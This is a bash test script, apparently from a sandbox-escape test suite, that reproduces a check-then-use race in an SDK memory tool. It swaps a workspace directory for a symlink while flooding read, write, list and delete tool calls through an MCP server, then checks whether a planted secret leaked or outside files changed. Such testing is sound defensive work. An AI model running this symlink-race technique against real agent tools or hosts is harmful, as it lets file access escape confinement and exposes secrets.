#!/bin/bash
# CVE-2026-34452, Claude SDK for Python: the memory tool validated a path and used it later; a link made
# in between led outside.
# Escaped: the tools of the MCP server return or change something outside while links are exchanged.
# shellcheck disable=SC2317,SC2034
NEEDS="filecalls service"
. "${0%/*}/../lib.sh"
prepare() { secret_out; echo original >"$OUT/file"; mkdir "$WS/d" && echo plain | tee "$WS/d/secret" >"$WS/d/file"; cp "$here/swap.py" "$WS/swap.py"; ln -s "$OUT" "$WS/l"; }
calls()
{
    local i
    for ((i = 0; i < 150; i++)); do
        printf '%s\n' read '{"file_path":"d/secret"}' write '{"file_path":"d/file","content":"changed"}' ls '{"path":"d"}' delete '{"file_path":"d/file"}'
    done
}
attack()
{
    local i
    if [ "$BOX" = none ]; then
        /usr/bin/python3 swap.py "$WS/d" "$WS/l" &
        for ((i = 0; i < 100000; i++)); do cat d/secret >>"$R/said"; echo changed >d/file; escaped && break; done
        touch stop
        wait
        return
    fi
    { printf '%s\n' bash "{\"command\":\"/usr/bin/python3 swap.py '$WS/d' '$WS/l'\",\"run_in_background\":true}"
        calls
        printf '%s\n' bash '{"command":"touch stop"}'; } | mcp_calls >"$R/said"
    grep -q '"jsonrpc"' "$R/said" || idle=1
}
escaped() { grep -qs "$SECRET" "$R"/said* || [ "$(cat "$OUT/file" 2>&1)" != original ] || [ "$(find "$OUT" | wc -l)" -ne 3 ]; }
attempt "tool calls while a directory is exchanged with a link"
